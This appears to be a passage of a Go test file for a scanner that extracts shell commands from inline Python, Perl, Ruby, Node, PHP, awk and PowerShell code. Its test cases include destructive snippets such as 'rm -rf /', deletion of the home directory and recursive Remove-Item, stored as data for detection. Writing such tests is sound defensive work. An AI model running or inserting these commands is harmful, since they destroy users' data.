	{srcPy, "import subprocess\ndef run(cmd, check=True):\n    return subprocess.run(cmd, shell=True, check=check)\nprint(run('git status').stdout)\nrun(cmd='ls')", "$ git status | $ ls"},
	{srcPy, "import os\nclass R:\n    def go(self, c):\n        os.system(c)\nR().go('id')", "$ id"},
	{srcPy, "import os\ndef f(c='rm -rf /'):\n    os.system(c)\nf()", "$ rm -rf /"},
	{srcPy, "import os, sys\ndef f(c):\n    os.system(c)\nf('ls')\nlist(map(f, sys.argv))", "?"},
	{srcPy, "import os\ndef f(c):\n    os.system(c)\nf('ls')\nexec('f(input())')", "?"},
	{srcPy, "import os\ndef f(c):\n    os.system(c)\n    f(c + 'x')\nf('ls')", "$ ls | ?"},
	{srcPy, "import os\n@app.route('/')\ndef f(c):\n    os.system(c)\nf('ls')", "?"},
	{srcPy, "import os\ndef f(c):\n    os.system(c)\nf('ls')\nglobals()['f'](input())", "?"},
	{srcJS, "const {execSync} = require('child_process')\nfunction sh(c) { return execSync(c).toString() }\nsh('ls'); sh('id')", "$ ls | $ id"},
	{srcJS, "const {execSync} = require('child_process')\nconst sh = (c) => execSync(c)\nsh('ls')", "$ ls"},
	{srcRb, "def sh(c)\n  system(c)\nend\nsh('ls')", "$ ls"},
	{srcPHP, "function sh($c) { system($c); }\nsh('ls');", "$ ls"},
	{srcPy, "import subprocess\nsubprocess.run(\n    ['rm', '-rf', '/'],\n    check=True,\n)", "$ rm -rf /"},
	{srcPy, "from subprocess import *\ncall('id', shell=True)", "$ id"},
	{srcPy, "import os; os.system('rm -rf /' if 1 else 'ls')", "?"},
	{srcJS, "const cp = require('child_process')\ncp.execSync('id')\n", "$ id"},
	{srcJS, "require('child_process').exec('id', (e, out) => console.log(out))", "$ id"},
	{srcJS, "const {exec} = require('child_process'); exec(`ls ${'-l'}`)", "$ ls -l"},
	{srcJS, "import('child_process').then(cp => cp.execSync('id'))", "$ id"},
	{srcJS, "(await import('node:child_process')).execSync('id')", "$ id"},
	{srcPl, "system(\"rm\", \"-rf\", $ARGV[0])", "?"},
	{srcPl, "my $cmd = join(' ', 'rm', '-rf', '/'); system $cmd;", "$ rm -rf /"},
	{srcPl, "exec {'/bin/sh'} 'sh', '-c', 'id'", "?"},
	{srcRb, "Dir.glob('*').each { |f| FileUtils.rm_rf(f) }", "rm -r ~f"},
	{srcRb, "`rm -rf #{ARGV[0]}`", "?"},
	{srcAwk, "BEGIN { cmd = \"ls\"; while ((cmd | getline l) > 0) print l; close(cmd) }", "$ ls"},
	{srcAwk, "{ cmd = \"wc -l \" $1; cmd | getline n }", "?"},
	{srcPwsh, "Get-ChildItem -Recurse | Remove-Item -Force", "rm ~(pipeline)"},
	{srcPwsh, "if ($true) { rm -rf / }", "$ rm -rf /"},
	{srcPwsh, "foreach ($f in ls) { Remove-Item $f -Recurse }", "rm -r ~$f"},
	{srcPHP, "<?php system('id'); ?>", "$ id"},
	{srcPHP, "$o = `ls -l $dir`;", "?"},
	// Everyday payloads that run nothing.
	{srcPy, `import sys; print(sys.path)`, ""},
	{srcPy, `import os; print(os.cpu_count())`, ""},
	{srcPy, `import secrets; print(secrets.token_hex(16))`, ""},
	{srcPy, `import sys, json; json.dump(json.load(sys.stdin), sys.stdout, indent=2)`, ""},
	{srcPy, `import os; os.makedirs("x", exist_ok=True)`, ""},
	{srcPy, `import urllib.request; print(urllib.request.urlopen("https://example.org").read())`, ""},
	{srcPy, `import torch; print(torch.cuda.is_available())`, ""},
	{srcPy, `exec("print(1)")`, ""},
	{srcPy, `import re; print(re.sub(r"a", "b", "abc"))`, ""},
	{srcPy, `import subprocess; print(subprocess.__version__ if hasattr(subprocess, "__version__") else "")`, ""},
	{srcPl, `print unless $seen{$_}++`, ""},
	{srcPl, `use List::Util qw(sum); print sum(@ARGV)`, ""},
	{srcPl, `print "a" x 10`, ""},
	{srcPl, `print for 1..5`, ""},
	{srcPl, `tr/a-z/A-Z/`, ""},
	{srcPl, `s/\n//g`, ""},
	{srcPl, `open my $f, "<", $ARGV[0] or die; print <$f>`, ""},
	{srcPl, `use Time::HiRes qw(time); print time`, ""},
	{srcPl, `my @l = sort { $a <=> $b } @ARGV; print "@l\n"`, ""},
	{srcRb, `puts Dir.pwd`, ""},
	{srcRb, `puts $_.upcase`, ""},
	{srcRb, `puts [1, 2].sum`, ""},
	{srcRb, `require "securerandom"; puts SecureRandom.hex`, ""},
	{srcRb, `File.write("x", "y")`, ""},
	{srcRb, `p ARGV`, ""},
	{srcRb, `puts ARGF.read.split.map(&:to_i).sum / 2`, ""},
	{srcJS, `console.log(require("os").cpus().length)`, ""},
	{srcJS, `process.arch`, ""},
	{srcJS, `fetch("https://example.org").then(r => r.text()).then(console.log)`, ""},
	{srcJS, `console.log(new Date().toISOString())`, ""},
	{srcJS, `const fs = require("fs"); console.log(fs.readdirSync("."))`, ""},
	{srcJS, `require("http").createServer((q, s) => s.end("ok")).listen(8080)`, ""},
	{srcJS, `const re = /ab+c/g; console.log("abbc".replace(re, "x") / 1)`, ""},
	{srcPHP, `phpinfo();`, ""},
	{srcPHP, `echo date("Y");`, ""},
	{srcPHP, `var_dump(extension_loaded("curl"));`, ""},
	{srcPHP, `$a = array_map(fn($x) => $x * 2, [1, 2]); print_r($a);`, ""},
	{srcAwk, `length > 72`, ""},
	{srcAwk, `!seen[$0]++`, ""},
	{srcAwk, `{ sum += $NF } END { print sum }`, ""},
	{srcAwk, `{ print > "out_" $1 ".txt" }`, ""},
	{srcAwk, `BEGIN { srand(); print rand() }`, ""},
	{srcAwk, `{ gsub(/foo/, "bar"); print }`, ""},
	{srcAwk, `{$1=$1}1`, ""},
	{srcAwk, `{ printf "%s|%s\n", $1, $2 }`, ""},
	{srcPwsh, `Get-Date`, ""},
	{srcPwsh, `$env:PATH -split ';'`, ""},
	{srcPwsh, `Get-Service | Where-Object Status -eq Running`, ""},
	{srcPwsh, `Test-Path C:\x`, ""},
	{srcPwsh, `[System.Environment]::OSVersion`, ""},
	{srcPwsh, `Write-Output $PSVersionTable`, ""},
	// An argv with the home directory as one element runs on the home directory.
	{srcPl, `system "rm", "-rf", $ENV{HOME}`, "$ rm -rf ~"},
	{srcPy, `import subprocess, os; subprocess.run(["rm", "-rf", os.path.expanduser("~")])`, "$ rm -rf ~"},
	{srcJS, `require("child_process").spawnSync("rm", ["-rf", require("os").homedir()])`, "$ rm -rf ~"},
	{srcRb, `system("rm", "-rf", Dir.home)`, "$ rm -rf ~"},
	{srcPl, `system "ls", "-l", $ENV{HOME}`, "$ ls -l ~"},
	{srcPl, `system "rm", "-rf", $dir`, "?"},
	// A command line ending in the home directory; in single quotes it stays unknown.
	{srcPy, `import os; os.system("rm -rf " + os.environ["HOME"])`, "$ rm -rf $HOME"},
	{srcPy, `import os; os.system("rm -rf \"" + os.environ["HOME"] + "\"")`, `$ rm -rf "$HOME"`},
	{srcPy, `import os; os.system("rm -rf '" + os.environ["HOME"] + "'")`, "?"},
	{srcPHP, `exec("rm -rf " . getenv("HOME"));`, "$ rm -rf $HOME"},
	{srcPl, `system("rm -rf " . $ENV{HOME})`, "$ rm -rf $HOME"},
	{srcPl, `system("rm -rf " . $opts{dir})`, "?"},
	{srcRb, `system("rm -rf " + Dir.home)`, "$ rm -rf $HOME"},
	{srcPy, `import os; os.system("rm -rf " + os.environ["TARGET"])`, "?"},
	{srcPy, `import subprocess, os; subprocess.run(["rm", "-rf", os.path.expanduser("~") + x])`, "?"},
}

func TestScanSource(t *testing.T) {
	for _, c := range srcCases {
		got := srcRender(Scan(c.lang, c.src))
		if want := srcWant(c.want); got != want {
			t.Errorf("Scan(%v, %q):\n got %q\nwant %q", c.lang, c.src, got, want)
		}
	}
	if len(srcCases) < 120 {
		t.Errorf("only %d cases", len(srcCases))
	}
}

func TestScanSourceUnknownLang(t *testing.T) {
	for _, l := range []Lang{0, -1, LangPowerShell + 1} {
		if got := Scan(l, `import os; os.system("id")`); !got.Empty() {
			t.Errorf("Scan(%d, …) = %+v, want nothing", l, got)
		}
	}
}

func TestLangOf(t *testing.T) {
	for name, want := range map[string]Lang{
		"python": LangPython, "python3": LangPython, "python3.12": LangPython, "/usr/bin/python3": LangPython,
		"pypy3": LangPython, "perl": LangPerl, "perl5.36": LangPerl, "ruby": LangRuby, "node": LangNode,
		"nodejs": LangNode, "deno": LangNode, "bun": LangNode, "php": LangPHP, "php8.2": LangPHP,
		"awk": LangAwk, "gawk": LangAwk, "mawk": LangAwk, "nawk": LangAwk, "pwsh": LangPowerShell,
		"powershell": LangPowerShell, "powershell.exe": LangPowerShell, `C:\x\pwsh.exe`: LangPowerShell,
		"bash": 0, "rm": 0, "": 0, "pythonista": 0,
	} {
		if got := LangOf(name); got != want {
			t.Errorf("LangOf(%q) = %v, want %v", name, got, want)
		}
	}
}

// TestScanSourceLinear checks that big and adversarial inputs take time
// linear in their size.
func TestScanSourceLinear(t *testing.T) {
	inputs := map[string]string{
		"nested parens":  strings.Repeat("(", 20000) + strings.Repeat(")", 20000),
		"nested calls":   strings.Repeat("os.system(", 20000) + strings.Repeat(")", 20000),
		"long chain":     "x" + strings.Repeat(".a", 30000),
		"many strings":   strings.Repeat(`"a" + `, 20000) + `"b"`,
		"unclosed":       strings.Repeat(`"`, 1) + strings.Repeat("x", 100000),
		"many evals":     `c = "import os; os.system('ls')"` + strings.Repeat("; exec(c)", 5000),
		"interpolations": strings.Repeat("`${", 5000) + strings.Repeat("}`", 5000),
		"assignments":    strings.Repeat("a = a + a\n", 5000),
		"doubling":       "a = 'xx'\n" + strings.Repeat("b = a + a\na = b + b\n", 40),
		"templates":      strings.Repeat("`${`", 3000),
		"fstrings":       strings.Repeat(`f"{f'{`, 3000),
		"pwsh subexpr":   strings.Repeat(`"$(`, 5000),
		"heredocs":       strings.Repeat("<<A\n", 5000),
		"functions":      strings.Repeat("def f(c):\n  os.system(c)\nf('x')\n", 3000) + strings.Repeat("'abc' ", 20000),
	}
	for name, in := range inputs {
		for _, lang := range []Lang{LangPython, LangPerl, LangRuby, LangNode, LangPHP, LangAwk, LangPowerShell} {
			// The faster of two runs: a loaded machine slows one run, a
			// quadratic scan is slow in both.
			d := minDuration(2, func() { Scan(lang, in) })
			if d > 5*time.Second {
				t.Errorf("%s in %v: %v", name, lang, d)
			}
		}
	}
}

// minDuration runs f n times and returns the shortest run.
func minDuration(n int, f func()) time.Duration {
	best := time.Duration(1<<63 - 1)
	for range n {
		start := time.Now()
		f()
		best = min(best, time.Since(start))
	}
	return best
}

// FuzzScanSource checks that Scan never panics (its recover would
// report "source scan failed"), is deterministic, and returns lines a
// shell parser can take.
func FuzzScanSource(f *testing.F) {
	for _, c := range srcCases {
		f.Add(uint8(c.lang), c.src)
	}
	f.Fuzz(func(t *testing.T, lang uint8, src string) {
		l := Lang(lang%7 + 1)
		start := time.Now()
		a := Scan(l, src)
		if d := time.Since(start); d > 2*time.Second && len(src) < 1<<16 {
			t.Errorf("%v: %d bytes took %v", l, len(src), d)
		}
		for _, d := range a.Dynamic {
			if strings.HasPrefix(d, "source scan failed") {
				t.Fatalf("%v: %s", l, d)
			}
		}
		for _, s := range a.Shell {
			if strings.IndexByte(s, 0) >= 0 {
				t.Fatalf("%v: NUL in shell line %q", l, s)
			}
		}
		if b := Scan(l, src); srcRender(a) != srcRender(b) {
			t.Fatalf("%v: not deterministic:\n%s\n%s", l, srcRender(a), srcRender(b))
		}
		// Code run through eval of an escaped string literal does what
		// the code itself does.
		if wrap, ok := srcEvalWrap(l, src); ok && len(src) < 4096 {
			if b := Scan(l, wrap); srcRender(a) != srcRender(b) {
				t.Fatalf("%v: %q and %q differ:\n%s\n%s", l, src, wrap, srcRender(a), srcRender(b))
			}
		}
	})
}

// srcEvalWrap returns code that evals src, given as a string literal with
// every byte but letters and digits escaped.
func srcEvalWrap(l Lang, src string) (string, bool) {
	for i := 0; i < len(src); i++ {
		if src[i] >= 0x80 || src[i] == 0 {
			return "", false
		}
	}
	var b strings.Builder
	for i := 0; i < len(src); i++ {
		c := src[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "\\x%02x", c)
		}
	}
	switch l {
	case LangPython:
		return `exec("` + b.String() + `")`, true
	case LangNode:
		return `eval("` + b.String() + `")`, true
	}
	return "", false
}

// BenchmarkScanSource measures typical payloads: a plain one and one that
// runs a command.
func BenchmarkScanSource(b *testing.B) {
	for _, c := range []srcCase{
		{srcPy, `import json,sys; print(json.load(sys.stdin)["a"])`, ""},
		{srcPy, `import subprocess; subprocess.run(["git", "status"], check=True)`, ""},
		{srcPl, `while (<>) { s/foo/bar/g; print }`, ""},
		{srcJS, `require("child_process").execSync("ls -l", {stdio: "inherit"})`, ""},
		{srcPwsh, `Get-ChildItem -Recurse | Remove-Item -Force`, ""},
	} {
		b.Run(c.lang.String(), func(b *testing.B) {
			for b.Loop() {
				Scan(c.lang, c.src)
			}
		})
	}
}
